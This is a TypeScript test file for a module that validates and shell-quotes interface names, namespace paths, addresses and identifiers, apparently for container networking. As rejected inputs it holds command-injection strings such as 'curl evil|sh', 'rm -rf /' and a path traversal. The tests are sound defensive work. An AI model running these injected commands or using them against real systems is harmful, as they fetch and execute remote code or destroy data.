import { describe, expect, test } from "bun:test";
import {
  addressWord,
  INVALID_WORD,
  identifierWord,
  ifnameWord,
  netnsWord,
  prefixWord,
  shellWord,
} from "./command-words.ts";

describe("command words", () => {
  test("interface names", () => {
    expect(ifnameWord("eth0.100")).toBe("eth0.100");
    expect(ifnameWord("pn13862e065120")).toBe("pn13862e065120");
    expect(ifnameWord("eth0;reboot")).toBe(INVALID_WORD);
    expect(ifnameWord("a-very-long-interface")).toBe(INVALID_WORD);
    expect(ifnameWord(undefined)).toBe(INVALID_WORD);
  });

  test("netns paths", () => {
    expect(netnsWord("/var/run/netns/cni-1234")).toBe("/var/run/netns/cni-1234");
    expect(netnsWord("/proc/42/ns/net")).toBe("/proc/42/ns/net");
    expect(netnsWord("/run/netns/x; curl evil|sh")).toBe(INVALID_WORD);
    expect(netnsWord("relative/path")).toBe(INVALID_WORD);
    expect(netnsWord("/run/netns/../../etc")).toBe(INVALID_WORD);
  });

  test("addresses and prefixes, canonical", () => {
    expect(addressWord("10.244.3.2")).toBe("10.244.3.2");
    expect(addressWord("2001:DB8::1")).toBe("2001:db8::1");
    expect(addressWord("10.0.0.1 ; rm")).toBe(INVALID_WORD);
    expect(prefixWord("10.244.3.0/24")).toBe("10.244.3.0/24");
    expect(prefixWord("default")).toBe("default");
    expect(prefixWord("10.244.3.0/24;x")).toBe(INVALID_WORD);
  });

  test("identifiers and shell words", () => {
    expect(identifierWord("lab-4uhc1z-node2-a")).toBe("lab-4uhc1z-node2-a");
    expect(identifierWord("x'; rm -rf /")).toBe(INVALID_WORD);
    expect(shellWord("sqlite:/tmp/lab/store.db")).toBe("sqlite:/tmp/lab/store.db");
    expect(shellWord("sqlite:/tmp/my lab/it's.db")).toBe("'sqlite:/tmp/my lab/it'\\''s.db'");
  });
});
